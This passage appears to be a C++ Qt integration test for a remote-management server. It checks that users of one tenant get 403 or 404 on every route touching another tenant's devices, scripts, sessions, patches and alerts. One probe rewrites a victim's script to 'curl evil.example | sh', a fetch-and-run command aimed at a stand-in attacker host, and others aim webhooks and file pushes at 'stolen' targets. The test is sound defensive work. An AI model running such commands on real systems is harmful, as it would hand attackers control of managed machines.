// Tenants never leak: users of one organisation or partner cannot see or touch another's data through any
// route. The route table itself is enumerated, so a new tenant-scoped route without a probe here fails this
// test.
#include "TestPostgres.h"
#include "TestServer.h"
#include "app/RouteTable.h"
#include "auth/AccessScope.h"
#include "crypto/Digest.h"
#include "db/ScopedTransaction.h"
#include "encoding/Hex.h"
#include "http/Router.h"

#include <QtTest>
#include <functional>
#include <pqxx/pqxx>
#include <set>

using namespace breeze;

namespace {
struct Tenant {
    std::string partner, device, org, siteA, siteB, orgGroup, siteGroup, enrollmentKey, apiKey, user, command;
    std::string script, run, execution; // an organisation's own script and a run of it on the device
    std::string schedule;               // a daily run of it on site A
    std::string patch, deployment;      // an update the device has installed, and a scheduled deployment
    std::string policy;                 // an organisation's own patch policy, assigned to it
    std::string session;                // a terminal session on the device, detached
    std::string blob, push;             // a file kept by the server (its SHA-256) and its push to the device
    std::string channel, rule, assignment,
        alert;          // alerting: an org's channel and rule, an alert on the device
    std::string window; // a maintenance window on site A
};
} // namespace

class TestTenantIsolation final : public QObject {
    Q_OBJECT

    std::unique_ptr<test::TestPostgres> m_postgres;
    std::unique_ptr<test::TestServer> m_server;
    std::unique_ptr<net::RestClient> m_admin1, m_admin2;
    Tenant m_a, m_b, m_c; // A and B belong to partner 1, C to partner 2
    std::string m_customRole2;
    std::map<std::string, std::unique_ptr<net::RestClient>> m_actors;
    int m_counter = 0;

    std::string create(net::RestClient& api, const std::string& path, const nlohmann::json& body) {
        const auto response = api.post(path, body);
        if (response.status != 201)
            qFatal("setup POST %s failed: %s", path.c_str(), response.raw.c_str());
        return response.body["id"];
    }

    Tenant makeTenant(net::RestClient& api, std::string name) {
        Tenant t;
        t.partner = api.get("/api/v1/partners").body["items"][0]["id"];
        t.org = create(api, "/api/v1/orgs", {{"name", name}});
        t.siteA = create(api, "/api/v1/sites", {{"org_id", t.org}, {"name", name + " site A"}});
        t.siteB = create(api, "/api/v1/sites", {{"org_id", t.org}, {"name", name + " site B"}});
        t.orgGroup = create(api, "/api/v1/groups", {{"org_id", t.org}, {"name", "Servers"}});
        t.siteGroup =
            create(api, "/api/v1/groups", {{"org_id", t.org}, {"site_id", t.siteA}, {"name", "Desks"}});
        const auto key =
            api.post("/api/v1/enrollment-keys", {{"site_id", t.siteA}, {"expires_in_seconds", 3600}});
        t.enrollmentKey = key.body["id"];
        t.device =
            m_server->client()
                ->post("/api/v1/agent/enroll",
                       {{"key", key.body["key"]}, {"identity", name + "-pc"}, {"hostname", name + "-pc"}})
                .body["device_id"];
        t.command = create(api, "/api/v1/devices/" + t.device + "/commands", {{"type", "ping"}});
        t.apiKey = create(api, "/api/v1/api-keys", {{"name", "k"}, {"org_id", t.org}, {"role", "read-only"}});
        t.script = create(
            api, "/api/v1/scripts",
            {{"name", name + " cleanup"}, {"org_id", t.org}, {"language", "bash"}, {"content", "true"}});
        const auto run = api.post("/api/v1/scripts/" + t.script + "/runs", {{"device_ids", {t.device}}});
        if (run.status != 201)
            qFatal("setup run failed: %s", run.raw.c_str());
        t.run = run.body["run"]["id"];
        t.schedule = create(api, "/api/v1/scripts/" + t.script + "/schedules",
                            {{"site_id", t.siteA},
                             {"run_at", "2099-01-01T03:00:00Z"},
                             {"repeat", "daily"},
                             {"timezone", "UTC"}});
        t.execution = run.body["executions"][0]["id"];
        // The device has never scanned (no agent runs here): its installed update goes straight into the
        // tables.
        t.patch =
            m_postgres
                ->superuserSql(
                    "isolation",
                    QString::fromStdString(
                        "WITH p AS (INSERT INTO patches (partner_id, manager, name, version) VALUES ('" +
                        t.partner + "', 'apt', 'pkg-" + name +
                        "', '2.0') RETURNING id) INSERT INTO "
                        "device_patches (device_id, patch_id, partner_id, org_id, site_id, state, "
                        "installed_version) SELECT '" +
                        t.device + "', id, '" + t.partner + "', '" + t.org + "', '" + t.siteA +
                        "', 'installed', '1.0' FROM p RETURNING patch_id"))
                .trimmed()
                .toStdString();
        // A live session needs a connected agent; its record is what the routes guard.
        t.session =
            m_postgres
                ->superuserSql("isolation",
                               QString::fromStdString(
                                   "INSERT INTO remote_sessions (partner_id, org_id, site_id, device_id, "
                                   "kind, state, actor_type, actor_id, actor_label) VALUES ('" +
                                   t.partner + "', '" + t.org + "', '" + t.siteA + "', '" + t.device +
                                   "', 'terminal', 'detached', 'user', gen_random_uuid(), '" + name +
                                   " admin') RETURNING id"))
                .trimmed()
                .toStdString();
        // ...as if scanned just now, so that the policy below does not queue scans while tenants are
        // compared.
        m_postgres->superuserSql("isolation",
                                 QString::fromStdString("UPDATE devices SET patches_scanned_at = now() "
                                                        "WHERE id = '" +
                                                        t.device + "'"));
        t.deployment = create(api, "/api/v1/patch-deployments",
                              {{"device_ids", {t.device}}, {"scheduled_at", "2099-01-01T00:00:00Z"}});
        t.policy = create(api, "/api/v1/patch-policies", {{"name", "Weekly"}, {"org_id", t.org}});
        if (api.post("/api/v1/patch-policies/" + t.policy + "/assignments", {{"org_id", t.org}}).status !=
            200)
            qFatal("setup: policy assignment failed");
        // A file pushed to the device (its agent is not connected: the delivery waits).
        const std::string content = "pushed by " + name;
        t.blob = encoding::hexEncode(crypto::Digest::sha256(content));
        if (api.post("/api/v1/file-blobs", {{"sha256", t.blob}, {"size", content.size()}}).status != 201 ||
            !api.sendRaw("PUT", "/api/v1/file-blobs/" + t.blob + "/chunks/0", content,
                         "application/octet-stream")
                 .ok() ||
            api.post("/api/v1/file-blobs/" + t.blob + "/complete", nlohmann::json::object()).status != 200)
            qFatal("setup: file blob failed");
        t.push = create(api, "/api/v1/file-pushes",
                        {{"sha256", t.blob}, {"path", "/tmp/pushed.txt"}, {"device_ids", {t.device}}});
        t.channel = create(api, "/api/v1/notification-channels",
                           {{"name", "Ops"},
                            {"kind", "webhook"},
                            {"org_id", t.org},
                            {"url", "https://hooks.example.com/" + name},
                            {"secret", "a secret of sixteen or more"}});
        const auto rule = api.post("/api/v1/alert-rules", {{"name", name + " CPU"},
                                                           {"condition", "cpu > 99% for 5m"},
                                                           {"severity", "warning"},
                                                           {"org_id", t.org},
                                                           {"channel_ids", {t.channel}}});
        if (rule.status != 201)
            qFatal("setup rule failed: %s", rule.raw.c_str());
        t.rule = rule.body["id"];
        t.assignment = rule.body["assignments"][0]["id"];
        // No agent runs here to make one fire: the alert goes straight into its table.
        t.alert =
            m_postgres
                ->superuserSql("isolation",
                               QString::fromStdString(
                                   "INSERT INTO alerts (partner_id, org_id, site_id, device_id, rule_id, "
                                   "device_name, rule_name, severity, title, message, state) VALUES ('" +
                                   t.partner + "', '" + t.org + "', '" + t.siteA + "', '" + t.device +
                                   "', '" + t.rule +
                                   "', 'pc', 'CPU', 'warning', 'CPU: pc', 'busy', 'active') "
                                   "RETURNING id"))
                .trimmed()
                .toStdString();
        // And one on site B (of a device since deleted), which a user limited to site A must not count or
        // touch.
        m_postgres->superuserSql(
            "isolation",
            QString::fromStdString(
                "INSERT INTO alerts (partner_id, org_id, site_id, device_id, rule_id, device_name, "
                "rule_name, severity, title, message, state) VALUES ('" +
                t.partner + "', '" + t.org + "', '" + t.siteB + "', NULL, '" + t.rule +
                "', 'pc-b', 'CPU', 'warning', 'CPU: pc-b', 'busy', 'active')"));
        t.window = create(api, "/api/v1/maintenance-windows",
                          {{"scope", "site"},
                           {"target_id", t.siteA},
                           {"starts_at", "2099-01-01T00:00:00Z"},
                           {"ends_at", "2099-01-01T02:00:00Z"},
                           {"repeat", "weekly"}});
        t.user = create(api, "/api/v1/users",
                        {{"email", name + "-staff@iso.test"},
                         {"password", "staff password 1"},
                         {"org_id", t.org},
                         {"role", "read-only"}});
        return t;
    }

    std::unique_ptr<net::RestClient> makeUser(net::RestClient& api, const std::string& key,
                                              const nlohmann::json& grant) {
        nlohmann::json body = grant;
        body["email"] = key + "@iso.test";
        body["password"] = "isolation password";
        const auto response = api.post("/api/v1/users", body);
        if (response.status != 201)
            qFatal("user %s: %s", key.c_str(), response.raw.c_str());
        return m_server->signIn(key + "@iso.test", "isolation password");
    }

    // Every route that names a tenant resource, with the path and body that aim it at tenant `t`.
    struct Probe {
        std::string method;
        std::string pattern;
        std::function<std::string(const Tenant&)> path;
        std::function<nlohmann::json(const Tenant&)> body;
    };

    std::vector<Probe> probes() {
        auto fixed = [](const std::string& p) { return [p](const Tenant&) { return p; }; };
        auto none = [](const Tenant&) { return nlohmann::json(); };
        auto unique = [this](const std::string& prefix) { return prefix + std::to_string(++m_counter); };
        return {
            {"GET", "/api/v1/devices/{id}", [](const Tenant& t) { return "/api/v1/devices/" + t.device; },
             none},
            {"POST", "/api/v1/devices/{id}/approve",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/approve"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"POST", "/api/v1/devices/{id}/rotate-credential",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/rotate-credential"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"DELETE", "/api/v1/devices/{id}/reenrollment",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/reenrollment"; }, none},
            {"POST", "/api/v1/devices/{id}/revoke",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/revoke"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"DELETE", "/api/v1/devices/{id}", [](const Tenant& t) { return "/api/v1/devices/" + t.device; },
             none},
            {"PATCH", "/api/v1/devices/{id}", [](const Tenant& t) { return "/api/v1/devices/" + t.device; },
             [](const Tenant& t) {
                 return nlohmann::json{{"site_id", t.siteB}};
             }},
            {"GET", "/api/v1/devices/{id}/inventory",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/inventory"; }, none},
            {"GET", "/api/v1/devices/{id}/inventory/changes",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/inventory/changes"; }, none},
            {"GET", "/api/v1/devices/{id}/monitors",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/monitors"; }, none},
            {"GET", "/api/v1/devices/{id}/software",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/software"; }, none},
            {"GET", "/api/v1/devices/{id}/metrics",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/metrics?range=7d"; }, none},
            {"GET", "/api/v1/devices/{id}/events",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/events"; }, none},
            {"POST", "/api/v1/devices/{id}/commands",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/commands"; },
             [](const Tenant&) {
                 return nlohmann::json{{"type", "reboot"}, {"args", {{"delay_seconds", 0}}}};
             }},
            {"GET", "/api/v1/commands/{id}", [](const Tenant& t) { return "/api/v1/commands/" + t.command; },
             none},
            {"POST", "/api/v1/devices/{id}/sessions",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/sessions"; },
             [](const Tenant&) {
                 return nlohmann::json{{"kind", "terminal"}};
             }},
            {"GET", "/api/v1/sessions/{id}", [](const Tenant& t) { return "/api/v1/sessions/" + t.session; },
             none},
            {"GET", "/api/v1/sessions/{id}/recording",
             [](const Tenant& t) { return "/api/v1/sessions/" + t.session + "/recording"; }, none},
            {"POST", "/api/v1/sessions/{id}/attach",
             [](const Tenant& t) { return "/api/v1/sessions/" + t.session + "/attach"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"PUT", "/api/v1/sessions/{id}/quality",
             [](const Tenant& t) { return "/api/v1/sessions/" + t.session + "/quality"; },
             [](const Tenant&) {
                 return nlohmann::json{{"seconds", 1},
                                       {"codec", "vp8"},
                                       {"pictures_received", 1},
                                       {"pictures_decoded", 1},
                                       {"pictures_dropped", 0},
                                       {"bytes", 1},
                                       {"fps", 1},
                                       {"kbps", 1},
                                       {"round_trip_ms", 1},
                                       {"decode_ms", 1},
                                       {"latency_ms", {{"p50", 1}, {"p95", 1}, {"p99", 1}}}};
             }},
            {"DELETE", "/api/v1/sessions/{id}",
             [](const Tenant& t) { return "/api/v1/sessions/" + t.session; }, none},
            {"GET", "/api/v1/alerts/{id}", [](const Tenant& t) { return "/api/v1/alerts/" + t.alert; }, none},
            {"POST", "/api/v1/alerts/{id}/acknowledge",
             [](const Tenant& t) { return "/api/v1/alerts/" + t.alert + "/acknowledge"; },
             [](const Tenant&) {
                 return nlohmann::json{{"note", "mine now"}};
             }},
            {"POST", "/api/v1/alerts/{id}/resolve",
             [](const Tenant& t) { return "/api/v1/alerts/" + t.alert + "/resolve"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"GET", "/api/v1/alert-rules/{id}",
             [](const Tenant& t) { return "/api/v1/alert-rules/" + t.rule; }, none},
            {"PATCH", "/api/v1/alert-rules/{id}",
             [](const Tenant& t) { return "/api/v1/alert-rules/" + t.rule; },
             [](const Tenant&) {
                 return nlohmann::json{{"enabled", false}};
             }},
            {"DELETE", "/api/v1/alert-rules/{id}",
             [](const Tenant& t) { return "/api/v1/alert-rules/" + t.rule; }, none},
            {"POST", "/api/v1/alert-rules", fixed("/api/v1/alert-rules"),
             [](const Tenant& t) {
                 return nlohmann::json{{"name", "Intruder"},
                                       {"condition", "offline for 1m"},
                                       {"severity", "critical"},
                                       {"applies_to", "site"},
                                       {"target_id", t.siteA}};
             }},
            {"POST", "/api/v1/alert-rules/{id}/assignments",
             [](const Tenant& t) { return "/api/v1/alert-rules/" + t.rule + "/assignments"; },
             [](const Tenant& t) {
                 return nlohmann::json{{"scope", "site"}, {"target_id", t.siteA}, {"exclude", true}};
             }},
            {"DELETE", "/api/v1/alert-rules/{id}/assignments/{assignment}",
             [](const Tenant& t) { return "/api/v1/alert-rules/" + t.rule + "/assignments/" + t.assignment; },
             none},
            {"GET", "/api/v1/devices/{id}/alert-rules",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/alert-rules"; }, none},
            {"POST", "/api/v1/notification-channels", fixed("/api/v1/notification-channels"),
             [](const Tenant& t) {
                 return nlohmann::json{{"name", "Mine"},
                                       {"kind", "slack"},
                                       {"org_id", t.org},
                                       {"url", "https://hooks.example.com/stolen"}};
             }},
            {"DELETE", "/api/v1/notification-channels/{id}",
             [](const Tenant& t) { return "/api/v1/notification-channels/" + t.channel; }, none},
            {"POST", "/api/v1/notification-channels/{id}/test",
             [](const Tenant& t) { return "/api/v1/notification-channels/" + t.channel + "/test"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"POST", "/api/v1/maintenance-windows", fixed("/api/v1/maintenance-windows"),
             [](const Tenant& t) {
                 return nlohmann::json{{"scope", "site"},
                                       {"target_id", t.siteA},
                                       {"starts_at", "2099-02-01T00:00:00Z"},
                                       {"ends_at", "2099-02-01T01:00:00Z"}};
             }},
            {"DELETE", "/api/v1/maintenance-windows/{id}",
             [](const Tenant& t) { return "/api/v1/maintenance-windows/" + t.window; }, none},
            {"GET", "/api/v1/file-pushes/{id}",
             [](const Tenant& t) { return "/api/v1/file-pushes/" + t.push; }, none},
            {"POST", "/api/v1/file-pushes", fixed("/api/v1/file-pushes"),
             [](const Tenant& t) {
                 return nlohmann::json{
                     {"sha256", t.blob}, {"path", "/tmp/stolen"}, {"device_ids", {t.device}}};
             }},
            {"PUT", "/api/v1/file-blobs/{sha256}/chunks/{seq}",
             [](const Tenant& t) { return "/api/v1/file-blobs/" + t.blob + "/chunks/0"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"POST", "/api/v1/file-blobs/{sha256}/complete",
             [](const Tenant& t) { return "/api/v1/file-blobs/" + t.blob + "/complete"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"POST", "/api/v1/commands/{id}/cancel",
             [](const Tenant& t) { return "/api/v1/commands/" + t.command + "/cancel"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"GET", "/api/v1/partners/{id}", [](const Tenant& t) { return "/api/v1/partners/" + t.partner; },
             none},
            {"PATCH", "/api/v1/partners/{id}",
             [](const Tenant& t) { return "/api/v1/partners/" + t.partner; },
             [](const Tenant&) {
                 return nlohmann::json{{"name", "hijacked"}, {"require_mfa", true}};
             }},
            {"GET", "/api/v1/orgs/{id}", [](const Tenant& t) { return "/api/v1/orgs/" + t.org; }, none},
            {"PATCH", "/api/v1/orgs/{id}", [](const Tenant& t) { return "/api/v1/orgs/" + t.org; },
             [](const Tenant&) {
                 return nlohmann::json{{"name", "hijacked"}};
             }},
            {"DELETE", "/api/v1/orgs/{id}",
             [](const Tenant& t) { return "/api/v1/orgs/" + t.org + "?cascade=true"; }, none},
            {"POST", "/api/v1/sites", fixed("/api/v1/sites"),
             [unique](const Tenant& t) {
                 return nlohmann::json{{"org_id", t.org}, {"name", unique("planted ")}};
             }},
            {"GET", "/api/v1/sites/{id}", [](const Tenant& t) { return "/api/v1/sites/" + t.siteA; }, none},
            {"PATCH", "/api/v1/sites/{id}", [](const Tenant& t) { return "/api/v1/sites/" + t.siteA; },
             [](const Tenant&) {
                 return nlohmann::json{{"name", "hijacked"}};
             }},
            {"DELETE", "/api/v1/sites/{id}", [](const Tenant& t) { return "/api/v1/sites/" + t.siteA; },
             none},
            {"POST", "/api/v1/groups", fixed("/api/v1/groups"),
             [unique](const Tenant& t) {
                 return nlohmann::json{{"org_id", t.org}, {"site_id", t.siteA}, {"name", unique("g")}};
             }},
            {"GET", "/api/v1/groups/{id}", [](const Tenant& t) { return "/api/v1/groups/" + t.siteGroup; },
             none},
            {"PATCH", "/api/v1/groups/{id}", [](const Tenant& t) { return "/api/v1/groups/" + t.orgGroup; },
             [](const Tenant&) {
                 return nlohmann::json{{"name", "hijacked"}};
             }},
            {"DELETE", "/api/v1/groups/{id}", [](const Tenant& t) { return "/api/v1/groups/" + t.siteGroup; },
             none},
            {"POST", "/api/v1/users", fixed("/api/v1/users"),
             [unique](const Tenant& t) {
                 return nlohmann::json{{"email", unique("planted") + "@iso.test"},
                                       {"password", "planted password"},
                                       {"org_id", t.org},
                                       {"role", "read-only"}};
             }},
            {"GET", "/api/v1/users/{id}", [](const Tenant& t) { return "/api/v1/users/" + t.user; }, none},
            {"PATCH", "/api/v1/users/{id}", [](const Tenant& t) { return "/api/v1/users/" + t.user; },
             [](const Tenant&) {
                 return nlohmann::json{{"disabled", true}};
             }},
            {"DELETE", "/api/v1/users/{id}", [](const Tenant& t) { return "/api/v1/users/" + t.user; }, none},
            {"POST", "/api/v1/users/{id}/grants",
             [](const Tenant& t) { return "/api/v1/users/" + t.user + "/grants"; },
             [](const Tenant& t) {
                 return nlohmann::json{{"role", "org-admin"}, {"org_id", t.org}};
             }},
            {"DELETE", "/api/v1/users/{id}/grants/{grant}",
             [this](const Tenant& t) {
                 const auto user = m_admin1->get("/api/v1/users/" + t.user);
                 const std::string grant = user.ok() ? user.body["grants"][0]["id"].get<std::string>()
                                                     : m_admin2->get("/api/v1/users/" + t.user)
                                                           .body["grants"][0]["id"]
                                                           .get<std::string>();
                 return "/api/v1/users/" + t.user + "/grants/" + grant;
             },
             none},
            {"POST", "/api/v1/api-keys", fixed("/api/v1/api-keys"),
             [](const Tenant& t) {
                 return nlohmann::json{{"name", "planted"}, {"org_id", t.org}, {"role", "read-only"}};
             }},
            {"GET", "/api/v1/api-keys/{id}", [](const Tenant& t) { return "/api/v1/api-keys/" + t.apiKey; },
             none},
            {"DELETE", "/api/v1/api-keys/{id}",
             [](const Tenant& t) { return "/api/v1/api-keys/" + t.apiKey; }, none},
            {"POST", "/api/v1/scripts", fixed("/api/v1/scripts"),
             [unique](const Tenant& t) {
                 return nlohmann::json{
                     {"name", unique("planted ")}, {"org_id", t.org}, {"language", "sh"}, {"content", "id"}};
             }},
            {"GET", "/api/v1/scripts/{id}", [](const Tenant& t) { return "/api/v1/scripts/" + t.script; },
             none},
            {"PATCH", "/api/v1/scripts/{id}", [](const Tenant& t) { return "/api/v1/scripts/" + t.script; },
             [](const Tenant&) {
                 return nlohmann::json{{"content", "curl evil.example | sh"}};
             }},
            {"DELETE", "/api/v1/scripts/{id}", [](const Tenant& t) { return "/api/v1/scripts/" + t.script; },
             none},
            {"GET", "/api/v1/scripts/{id}/versions",
             [](const Tenant& t) { return "/api/v1/scripts/" + t.script + "/versions"; }, none},
            {"GET", "/api/v1/scripts/{id}/versions/{version}",
             [](const Tenant& t) { return "/api/v1/scripts/" + t.script + "/versions/1"; }, none},
            {"POST", "/api/v1/scripts/{id}/versions/{version}/restore",
             [](const Tenant& t) { return "/api/v1/scripts/" + t.script + "/versions/1/restore"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"POST", "/api/v1/scripts/{id}/runs",
             [](const Tenant& t) { return "/api/v1/scripts/" + t.script + "/runs"; },
             [](const Tenant& t) {
                 return nlohmann::json{{"device_ids", {t.device}}};
             }},
            {"POST", "/api/v1/scripts/{id}/schedules",
             [](const Tenant& t) { return "/api/v1/scripts/" + t.script + "/schedules"; },
             [](const Tenant& t) {
                 return nlohmann::json{
                     {"site_id", t.siteA}, {"run_at", "2099-01-01T00:00:00Z"}, {"timezone", "UTC"}};
             }},
            {"DELETE", "/api/v1/script-schedules/{id}",
             [](const Tenant& t) { return "/api/v1/script-schedules/" + t.schedule; }, none},
            {"GET", "/api/v1/script-runs/{id}",
             [](const Tenant& t) { return "/api/v1/script-runs/" + t.run; }, none},
            {"POST", "/api/v1/script-runs/{id}/cancel",
             [](const Tenant& t) { return "/api/v1/script-runs/" + t.run + "/cancel"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"GET", "/api/v1/script-executions/{id}",
             [](const Tenant& t) { return "/api/v1/script-executions/" + t.execution; }, none},
            {"GET", "/api/v1/commands/{id}/output",
             [](const Tenant& t) { return "/api/v1/commands/" + t.execution + "/output"; }, none},
            {"POST", "/api/v1/devices/{id}/patch-scan",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/patch-scan"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"GET", "/api/v1/devices/{id}/patches",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/patches"; }, none},
            {"GET", "/api/v1/devices/{id}/patch-results",
             [](const Tenant& t) { return "/api/v1/devices/" + t.device + "/patch-results"; }, none},
            {"POST", "/api/v1/devices/{id}/patches/{patch}/rollback",
             [](const Tenant& t) {
                 return "/api/v1/devices/" + t.device + "/patches/" + t.patch + "/rollback";
             },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"GET", "/api/v1/patches/{id}", [](const Tenant& t) { return "/api/v1/patches/" + t.patch; },
             none},
            {"POST", "/api/v1/patches/{id}/decision",
             [](const Tenant& t) { return "/api/v1/patches/" + t.patch + "/decision"; },
             [](const Tenant& t) {
                 return nlohmann::json{{"decision", "rejected"}, {"device_id", t.device}};
             }},
            {"POST", "/api/v1/patch-policies", fixed("/api/v1/patch-policies"),
             [unique](const Tenant& t) {
                 return nlohmann::json{
                     {"name", unique("planted ")}, {"org_id", t.org}, {"auto_approve_pattern", "*"}};
             }},
            {"GET", "/api/v1/patch-policies/{id}",
             [](const Tenant& t) { return "/api/v1/patch-policies/" + t.policy; }, none},
            {"PATCH", "/api/v1/patch-policies/{id}",
             [](const Tenant& t) { return "/api/v1/patch-policies/" + t.policy; },
             [](const Tenant&) {
                 return nlohmann::json{{"auto_approve_pattern", "*"}, {"window_days", {0, 1, 2, 3, 4, 5, 6}}};
             }},
            {"DELETE", "/api/v1/patch-policies/{id}",
             [](const Tenant& t) { return "/api/v1/patch-policies/" + t.policy; }, none},
            {"POST", "/api/v1/patch-policies/{id}/assignments",
             [](const Tenant& t) { return "/api/v1/patch-policies/" + t.policy + "/assignments"; },
             [](const Tenant& t) {
                 return nlohmann::json{{"site_id", t.siteA}};
             }},
            {"POST", "/api/v1/patch-deployments", fixed("/api/v1/patch-deployments"),
             [](const Tenant& t) {
                 return nlohmann::json{{"device_ids", {t.device}}};
             }},
            {"POST", "/api/v1/patch-deployments/preview", fixed("/api/v1/patch-deployments/preview"),
             [](const Tenant& t) {
                 return nlohmann::json{{"device_ids", {t.device}}};
             }},
            {"POST", "/api/v1/patch-deployments/preview", fixed("/api/v1/patch-deployments/preview"),
             [](const Tenant& t) {
                 return nlohmann::json{{"site_id", t.siteA}};
             }},
            {"GET", "/api/v1/patch-deployments/{id}",
             [](const Tenant& t) { return "/api/v1/patch-deployments/" + t.deployment; }, none},
            {"POST", "/api/v1/patch-deployments/{id}/cancel",
             [](const Tenant& t) { return "/api/v1/patch-deployments/" + t.deployment + "/cancel"; },
             [](const Tenant&) { return nlohmann::json::object(); }},
            {"POST", "/api/v1/enrollment-keys", fixed("/api/v1/enrollment-keys"),
             [](const Tenant& t) {
                 return nlohmann::json{{"site_id", t.siteA}, {"expires_in_seconds", 600}};
             }},
            {"GET", "/api/v1/enrollment-keys/{id}",
             [](const Tenant& t) { return "/api/v1/enrollment-keys/" + t.enrollmentKey; }, none},
            {"DELETE", "/api/v1/enrollment-keys/{id}",
             [](const Tenant& t) { return "/api/v1/enrollment-keys/" + t.enrollmentKey; }, none},
        };
    }

    // Lists and the ids of `t` that must never appear in them for an outsider.
    std::vector<std::pair<std::string, std::function<std::vector<std::string>(const Tenant&)>>> lists() {
        return {
            {"/api/v1/orgs", [](const Tenant& t) { return std::vector<std::string>{t.org}; }},
            {"/api/v1/devices", [](const Tenant& t) { return std::vector<std::string>{t.device}; }},
            {"/api/v1/commands", [](const Tenant& t) { return std::vector<std::string>{t.command}; }},
            {"/api/v1/sessions", [](const Tenant& t) { return std::vector<std::string>{t.session}; }},
            {"/api/v1/file-pushes",
             [](const Tenant& t) {
                 return std::vector<std::string>{t.push, t.blob};
             }},
            {"/api/v1/sites",
             [](const Tenant& t) {
                 return std::vector<std::string>{t.siteA, t.siteB};
             }},
            {"/api/v1/groups",
             [](const Tenant& t) {
                 return std::vector<std::string>{t.orgGroup, t.siteGroup};
             }},
            {"/api/v1/users", [](const Tenant& t) { return std::vector<std::string>{t.user}; }},
            {"/api/v1/scripts", [](const Tenant& t) { return std::vector<std::string>{t.script}; }},
            {"/api/v1/script-runs", [](const Tenant& t) { return std::vector<std::string>{t.run}; }},
            {"/api/v1/script-schedules",
             [](const Tenant& t) { return std::vector<std::string>{t.schedule}; }},
            {"/api/v1/script-executions",
             [](const Tenant& t) { return std::vector<std::string>{t.execution}; }},
            {"/api/v1/patches", [](const Tenant& t) { return std::vector<std::string>{t.patch}; }},
            {"/api/v1/patch-deployments",
             [](const Tenant& t) { return std::vector<std::string>{t.deployment}; }},
            {"/api/v1/patch-policies", [](const Tenant& t) { return std::vector<std::string>{t.policy}; }},
            {"/api/v1/patch-compliance",
             [](const Tenant& t) {
                 return std::vector<std::string>{t.org, t.siteA, t.siteB};
             }},
            {"/api/v1/api-keys", [](const Tenant& t) { return std::vector<std::string>{t.apiKey}; }},
            {"/api/v1/alerts", [](const Tenant& t) { return std::vector<std::string>{t.alert}; }},
            {"/api/v1/alert-rules",
             [](const Tenant& t) {
                 return std::vector<std::string>{t.rule, t.channel};
             }},
            {"/api/v1/maintenance-windows",
             [](const Tenant& t) { return std::vector<std::string>{t.window}; }},
            {"/api/v1/notification-channels",
             [](const Tenant& t) { return std::vector<std::string>{t.channel}; }},
            // Counts, not ids: alertSummaryCountsOnlyWhatTheCallerMaySee checks them.
            {"/api/v1/alerts/summary", [](const Tenant&) { return std::vector<std::string>{}; }},
            {"/api/v1/enrollment-keys",
             [](const Tenant& t) { return std::vector<std::string>{t.enrollmentKey}; }},
        };
    }

    // Everything `t` owns, as its partner's admin sees it: must be identical before and after an attack.
    std::string snapshot(net::RestClient& owner, const Tenant& t) {
        std::string out;
        for (const std::string& path : {"/api/v1/orgs/" + t.org,
                                        "/api/v1/sites/" + t.siteA,
                                        "/api/v1/groups/" + t.siteGroup,
                                        "/api/v1/groups/" + t.orgGroup,
                                        "/api/v1/users/" + t.user,
                                        "/api/v1/api-keys/" + t.apiKey,
                                        "/api/v1/enrollment-keys/" + t.enrollmentKey,
                                        "/api/v1/sites?org=" + t.org,
                                        "/api/v1/groups?org=" + t.org,
                                        "/api/v1/users?org=" + t.org,
                                        "/api/v1/api-keys?org=" + t.org,
                                        "/api/v1/enrollment-keys?org=" + t.org,
                                        "/api/v1/commands/" + t.command,
                                        "/api/v1/sessions/" + t.session,
                                        "/api/v1/file-pushes/" + t.push,
                                        "/api/v1/sessions?device_id=" + t.device,
                                        "/api/v1/commands?device=" + t.device,
                                        "/api/v1/script-schedules?script=" + t.script,
                                        "/api/v1/devices/" + t.device + "/events",
                                        "/api/v1/scripts/" + t.script,
                                        "/api/v1/scripts/" + t.script + "/versions",
                                        "/api/v1/script-runs/" + t.run,
                                        "/api/v1/script-executions/" + t.execution,
                                        "/api/v1/patches/" + t.patch,
                                        "/api/v1/devices/" + t.device + "/patches",
                                        "/api/v1/patch-deployments/" + t.deployment,
                                        "/api/v1/patch-policies/" + t.policy,
                                        "/api/v1/alerts/" + t.alert,
                                        "/api/v1/alert-rules/" + t.rule,
                                        "/api/v1/alerts?device=" + t.device,
                                        "/api/v1/maintenance-windows?org=" + t.org,
                                        "/api/v1/devices/" + t.device + "/alert-rules"}) {
            auto response = owner.get(path);
            if (response.body.is_object())
                response.body.erase("last_used_at");
            out += path + " " + std::to_string(response.status) + " " + response.body.dump() + "\n";
        }
        return out;
    }

    void attack(const std::string& actorName, const Tenant& victim, net::RestClient& owner) {
        auto& actor = *m_actors.at(actorName);
        const std::string before = snapshot(owner, victim);
        for (const auto& probe : probes()) {
            const std::string path = probe.path(victim);
            const nlohmann::json body = probe.body(victim);
            const auto response =
                body.is_null() ? actor.request(probe.method, path) : actor.request(probe.method, path, body);
            const std::string what = actorName + " " + probe.method + " " + path + " -> " +
                                     std::to_string(response.status) + " " + response.raw.substr(0, 200);
            QVERIFY2(response.status == 403 || response.status == 404, what.c_str());
            QVERIFY2(response.body.contains("error"), what.c_str());
        }
